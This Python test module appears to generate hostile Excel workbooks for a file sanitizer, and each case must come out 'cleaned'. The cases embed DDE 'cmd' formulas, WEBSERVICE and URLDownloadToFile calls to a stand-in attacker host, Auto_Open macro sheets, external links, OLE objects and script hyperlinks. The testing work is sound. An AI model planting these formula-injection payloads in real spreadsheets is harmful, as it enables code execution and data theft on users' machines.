"""Excel files whose formulas, names, ties and parts run or fetch, wherever Excel evaluates anything."""

from collections.abc import Callable, Iterator

from tests.hostile.cases import MARK, Case
from tests.hostile.cases import TEXT_MARK as EVIL
from tests.hostile.office_writer import HEAD, MAIN, NAMES, Package, S, sheet
from tests.hostile.words import WRITINGS

HERE = f"http://{EVIL}.example/"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + MARK * 9
FIRST = "xl/worksheets/sheet1.xml"
Place = Callable[[Package], None]
FORMULAS = {
    "DDE": f"cmd|' /C {EVIL}'!A0",
    "DDE of another program": f"MSEXCEL|'\\..\\..\\{EVIL}.exe'!''",
    "service": f'WEBSERVICE("{HERE}"&amp;A1)',
    "service with prefix": f'_xlfn.WEBSERVICE("{HERE}")',
    "picture": f'_xlfn.IMAGE("{HERE}a.png")',
    "real time": f'RTD("{EVIL}",,"a")',
    "call": f'CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"{HERE}")',
    "register": f'REGISTER.ID("kernel32","{EVIL}")',
    "query": f'SQL.REQUEST("{EVIL}")',
    "cube": f'CUBEMEMBER("{EVIL}","a")',
    "run": f'EXEC("{EVIL}.exe")',
    "in lower letters with a blank": f'webservice ("{HERE}")',
    "link to a script": f'HYPERLINK("javascript:{EVIL}","x")',
    "link to a share": f'HYPERLINK("\\\\{EVIL}\\a","x")',
    "link put together": f'HYPERLINK("file:"&amp;"//{EVIL}","x")',
    "another book": f"'[{EVIL}.xlsx]A'!$A$1",
    "another book by number": f'[1]A!$A$1+N("{EVIL}")',
    "book on a share": f"'\\\\{EVIL}\\a\\[b.xlsx]A'!$A$1",
    "book on the web": f"'{HERE}[b.xlsx]A'!$A$1",
    "in a sum": f'SUM(1,IF(TRUE,WEBSERVICE("{HERE}"),0))',
    "quote in a text": f'"a""b"&amp;WEBSERVICE("{HERE}")',
    "Python": f'_xlfn._xlws.PY("{EVIL}",0)',
    "stocks": f'_xlfn.STOCKHISTORY("{EVIL}",1)',
}


def cell(package: Package, markup: str) -> None:
    package.parts[FIRST] = str(package.parts[FIRST]).replace(
        "</sheetData>", f'<row r="2">{markup}</row></sheetData>'
    )


def hang(package: Package, kind: str, name: str, content: str | bytes, content_type: str = "") -> str:
    """A part that the sheet leads to."""
    package.add(name, content, content_type)
    return package.tie(kind, name, owner=FIRST)


def macros(package: Package) -> None:
    package.types[package.main] = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
    kind = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"
    package.hang(kind, "xl/vbaProject.bin", OLE, "application/vnd.ms-office.vbaProject")


def macro_sheet(package: Package) -> None:
    content = f'{HEAD}<xm:macrosheet xmlns:xm="{S}"><sheetData><row><c><f>EXEC("{EVIL}")</f></c></row></sheetData></xm:macrosheet>'
    identity = package.hang(
        "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet",
        "xl/macrosheets/sheet1.xml",
        content,
    )
    package.parts[package.main] = str(package.parts[package.main]).replace(
        "</sheets>", f'<sheet name="M" sheetId="2" state="veryHidden" r:id="{identity}"/></sheets>'
    )
    package.more += "<definedNames><definedName name='_xlnm.Auto_Open'>M!$A$1</definedName></definedNames>"


def outside_book(package: Package, kind: str, inner: str) -> None:
    name = "xl/externalLinks/externalLink1.xml"
    identity = package.hang(
        "externalLink", name, f'{HEAD}<externalLink xmlns="{S}" {NAMES}>{inner}</externalLink>'
    )
    package.tie(kind, HERE + "a.xlsx", owner=name, outside=True)
    package.more += f'<externalReferences><externalReference r:id="{identity}"/></externalReferences>'


def drawing(package: Package, inner: str, *ties: tuple[str, str, bool]) -> None:
    """A drawing on the sheet, with ties of its own."""
    name = "xl/drawings/drawing1.xml"
    xdr = "http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing"
    identity = hang(
        package,
        "drawing",
        name,
        f'{HEAD}<xdr:wsDr xmlns:xdr="{xdr}" {NAMES}><xdr:twoCellAnchor>{inner}</xdr:twoCellAnchor></xdr:wsDr>',
    )
    for kind, target, outside in ties:
        package.tie(kind, target, owner=name, outside=outside)
    package.body += f'<drawing r:id="{identity}"/>'


def chart(package: Package, formula: str) -> None:
    c = "http://schemas.openxmlformats.org/drawingml/2006/chart"
    content = f'{HEAD}<c:chartSpace xmlns:c="{c}" {NAMES}><c:chart><c:plotArea><c:ser><c:val><c:numRef><c:f>{formula}</c:f><c:numCache/></c:numRef></c:val></c:ser></c:plotArea></c:chart><c:externalData r:id="t1"/></c:chartSpace>'
    package.add("xl/charts/chart1.xml", content, MAIN + "drawingml.chart+xml")
    package.add("xl/embeddings/a.xlsx", OLE)
    package.tie("package", "xl/embeddings/a.xlsx", owner="xl/charts/chart1.xml")
    drawing(package, f'<c:chart xmlns:c="{c}" r:id="t1"/>', ("chart", "xl/charts/chart1.xml", False))


def old_drawing(package: Package, inner: str) -> None:
    """VML, as comments and controls have it."""
    name = "xl/drawings/vmlDrawing1.vml"
    content = f'<xml xmlns:v="urn:schemas-microsoft-com:vml" xmlns:x="urn:schemas-microsoft-com:office:excel"><v:shape>{inner}</v:shape></xml>'
    package.body += f'<legacyDrawing r:id="{hang(package, "vmlDrawing", name, content)}"/>'


def link(package: Package, target: str) -> None:
    identity = package.tie("hyperlink", target, owner=FIRST, outside=True)
    package.body += f'<hyperlinks><hyperlink ref="A1" r:id="{identity}"/></hyperlinks>'


def pivot(package: Package, source: str) -> None:
    kind = MAIN + "spreadsheetml.pivotCacheDefinition+xml"
    content = f'{HEAD}<pivotCacheDefinition xmlns="{S}" {NAMES}>{source}</pivotCacheDefinition>'
    identity = package.hang("pivotCacheDefinition", "xl/pivotCache/pivotCacheDefinition1.xml", content, kind)
    package.more += f'<pivotCaches><pivotCache cacheId="1" r:id="{identity}"/></pivotCaches>'


def name(package: Package, named: str, formula: str, rest: str = "") -> None:
    package.more += f'<definedNames><definedName name="{named}" {rest}>{formula}</definedName></definedNames>'


PLACES: dict[str, Place] = {
    "macros": macros,
    "macro sheet": macro_sheet,
    **{
        f"formula {kind}": lambda p, f=formula: cell(p, f'<c r="A2"><f>{f}</f><v>1</v></c>')
        for kind, formula in FORMULAS.items()
    },
    **{
        f"name of {kind}": lambda p, f=FORMULAS[kind]: name(p, "a", f)
        for kind in ("DDE", "service", "another book", "call")
    },
    "shared formula": lambda p: cell(
        p,
        f'<c r="A2"><f t="shared" ref="A2:A3" si="0">{FORMULAS["DDE"]}</f></c><c r="B2"><f t="shared" si="0"/></c>',
    ),
    "array formula": lambda p: cell(p, f'<c r="A2"><f t="array" ref="A2:A3">{FORMULAS["service"]}</f></c>'),
    "formula in pieces": lambda p: cell(p, f'<c r="A2"><f>WEB<![CDATA[SERVICE]]>("{HERE}")</f></c>'),
    "formula by numbers": lambda p: cell(p, f'<c r="A2"><f>cmd&#124;&#39;{EVIL}&#39;!A0</f></c>'),
    "formula with a comment": lambda p: cell(p, f'<c r="A2"><f>WEBSER<!-- -->VICE("{HERE}")</f></c>'),
    "name that starts": lambda p: name(p, "Auto_Open", "A!$A$1", f'comment="{EVIL}"'),
    "hidden name that starts": lambda p: name(
        p, "_xlnm.Auto_Open_x", "A!$A$1", f'hidden="1" comment="{EVIL}"'
    ),
    "name of a macro": lambda p: name(p, "m", "A!$A$1", f'function="1" vbProcedure="1" comment="{EVIL}"'),
    "rule": lambda p: setattr(
        p,
        "body",
        f'<conditionalFormatting sqref="A1"><cfRule type="expression"><formula>{FORMULAS["service"]}</formula></cfRule></conditionalFormatting>',
    ),
    "check of what is typed": lambda p: setattr(
        p,
        "body",
        f'<dataValidations count="1"><dataValidation sqref="A1"><formula1>{FORMULAS["DDE"]}</formula1></dataValidation></dataValidations>',
    ),
    "check in an extension": lambda p: setattr(
        p,
        "body",
        f'<extLst><ext><x14:dataValidations count="1"><x14:dataValidation><x14:formula1><xm:f>{FORMULAS["service"]}</xm:f></x14:formula1></x14:dataValidation></x14:dataValidations></ext></extLst>',
    ),
    "chart": lambda p: chart(p, FORMULAS["book on the web"]),
    "DDE link": lambda p: outside_book(
        p, "externalLinkPath", f'<ddeLink ddeService="cmd" ddeTopic="/c {EVIL}"/>'
    ),
    "OLE link": lambda p: outside_book(p, "oleObject", f'<oleLink r:id="t1" progId="{EVIL}"/>'),
    "book elsewhere": lambda p: outside_book(p, "externalLinkPath", '<externalBook r:id="t1"/>'),
    "connections": lambda p: (
        p.hang(
            "connections",
            "xl/connections.xml",
            f'<connections xmlns="{S}"><connection type="4"><webPr url="{HERE}"/></connection></connections>',
        )
        and None
    ),
    "database": lambda p: (
        p.hang(
            "connections",
            "xl/connections.xml",
            f'<connections xmlns="{S}"><connection refreshOnLoad="1"><dbPr connection="Provider={EVIL}"/></connection></connections>',
        )
        and None
    ),
    "query": lambda p: (
        hang(p, "queryTable", "xl/queryTables/queryTable1.xml", f'<queryTable xmlns="{S}" name="{EVIL}"/>')
        and None
    ),
    "maps": lambda p: p.hang("xmlMaps", "xl/xmlMaps.xml", f"<MapInfo>{EVIL}</MapInfo>") and None,
    "power query": lambda p: (
        p.hang("customXml", "customXml/item1.xml", f"<DataMashup>{EVIL}</DataMashup>") and None
    ),
    "real time values": lambda p: (
        p.hang(
            "volatileDependencies", "xl/volatileDependencies.xml", f'<volTypes xmlns="{S}">{EVIL}</volTypes>'
        )
        and None
    ),
    "pivot from elsewhere": lambda p: pivot(
        p, f'<cacheSource type="external" connectionId="1"/><a>{EVIL}</a>'
    ),
    "pivot of another book": lambda p: pivot(
        p, f'<cacheSource type="worksheet"><worksheetSource r:id="t1" sheet="{EVIL}"/></cacheSource>'
    ),
    "objects": lambda p: setattr(
        p,
        "body",
        f'<oleObjects><oleObject progId="{EVIL}" shapeId="1" r:id="{hang(p, "oleObject", "xl/embeddings/oleObject1.bin", OLE)}"/></oleObjects>',
    ),
    "objects elsewhere": lambda p: setattr(
        p,
        "body",
        f'<oleObjects><oleObject progId="a" link="[1]!{EVIL}" r:id="{p.tie("oleObject", HERE, owner=FIRST, outside=True)}"/></oleObjects>',
    ),
    "controls": lambda p: setattr(
        p,
        "body",
        f'<controls><control shapeId="1" name="{EVIL}" r:id="{hang(p, "control", "xl/activeX/activeX1.xml", f"<a>{EVIL}</a>")}"/></controls>',
    ),
    "form control": lambda p: setattr(
        p,
        "body",
        f'<controls><control shapeId="1" name="{EVIL}" r:id="{hang(p, "ctrlProp", "xl/ctrlProps/ctrlProp1.xml", f"<formControlPr fmlaMacro={EVIL!r}/>")}"/></controls>',
    ),
    "picture that runs a macro": lambda p: drawing(p, f'<xdr:sp macro="[0]!{EVIL}"/>'),
    "drawing with a link": lambda p: drawing(
        p, '<xdr:sp><a:hlinkClick r:id="t1"/></xdr:sp>', ("hyperlink", f"file:///c:/{EVIL}.exe", True)
    ),
    "picture elsewhere": lambda p: drawing(
        p, '<xdr:pic><a:blip r:link="t1"/></xdr:pic>', ("image", HERE, True)
    ),
    "old drawing that runs a macro": lambda p: old_drawing(
        p, f"<x:ClientData><x:FmlaMacro>[0]!{EVIL}</x:FmlaMacro></x:ClientData>"
    ),
    "old drawing with a script": lambda p: old_drawing(
        p, f"<x:ClientData><x:ScriptText>{EVIL}</x:ScriptText></x:ClientData><script>{EVIL}</script>"
    ),
    "old drawing from elsewhere": lambda p: old_drawing(p, f'<v:imagedata src="{HERE}"/>'),
    **{
        f"link {target.split('/')[0]}": lambda p, t=target: link(p, t + EVIL)
        for target in ("javascript:", "file:///c:/", "\\\\", "ms-excel:ofe|u|http://", "../")
    },
    "web page to publish": lambda p: setattr(p, "more", f'<webPublishing css="{EVIL}"/>'),
    "groups of functions": lambda p: setattr(
        p, "more", f'<functionGroups><functionGroup name="{EVIL}"/></functionGroups>'
    ),
    "who shares it": lambda p: setattr(p, "more", f'<fileSharing userName="{EVIL}"/>'),
    "where it lay": lambda p: setattr(
        p,
        "more",
        f'<mc:AlternateContent><mc:Choice Requires="x15"><x15ac:absPath xmlns:x15ac="a" url="c:\\{EVIL}"/></mc:Choice></mc:AlternateContent>',
    ),
    "printer": lambda p: hang(p, "printerSettings", "xl/printerSettings/printerSettings1.bin", MARK) and None,
    "custom properties": lambda p: setattr(
        p,
        "body",
        f'<customProperties><customPr name="{EVIL}" r:id="{hang(p, "customProperty", "xl/customProperty1.bin", MARK)}"/></customProperties>',
    ),
    "table from a query": lambda p: (
        hang(
            p,
            "table",
            "xl/tables/table1.xml",
            f'{HEAD}<table xmlns="{S}" id="1" tableType="queryTable"><tableColumns><tableColumn id="1" name="a"><calculatedColumnFormula>{FORMULAS["DDE"]}</calculatedColumnFormula></tableColumn></tableColumns></table>',
            MAIN + "spreadsheetml.table+xml",
        )
        and None
    ),
    "part that nothing leads to": lambda p: p.add("xl/evil.vbs", MARK),
}


def cases() -> Iterator[Case]:
    """Every place plainly, and by turns strictly or in UTF-16; all must come through without what acts."""
    for number, (place, put) in enumerate(PLACES.items()):
        for way in ("plain", "strict" if number % 2 else "in UTF-16"):
            yield Case(f"xlsx {place}, {way}", _maker(put, WRITINGS[way]), "cleaned")
    yield Case("xlsx formula in a sheet of many rows", _in_many_rows, "cleaned")


def _in_many_rows() -> bytes:
    """A sheet that is so long that it is read row by row."""
    package = sheet()
    rows = "".join(
        f'<row r="{n}"><c r="A{n}"><v>{n * 7919 % 100003}</v></c></row>' for n in range(3, 190_000)
    )
    cell(package, f'<c r="A2"><f>{FORMULAS["DDE"]}</f><v>1</v></c>')
    package.parts[FIRST] = str(package.parts[FIRST]).replace("</sheetData>", f"{rows}</sheetData>")
    return package.bytes()


def _maker(put: Place, write: Callable[[Package], bytes]) -> Callable[[], bytes]:
    def make() -> bytes:
        package = sheet()
        put(package)
        return write(package)

    return make
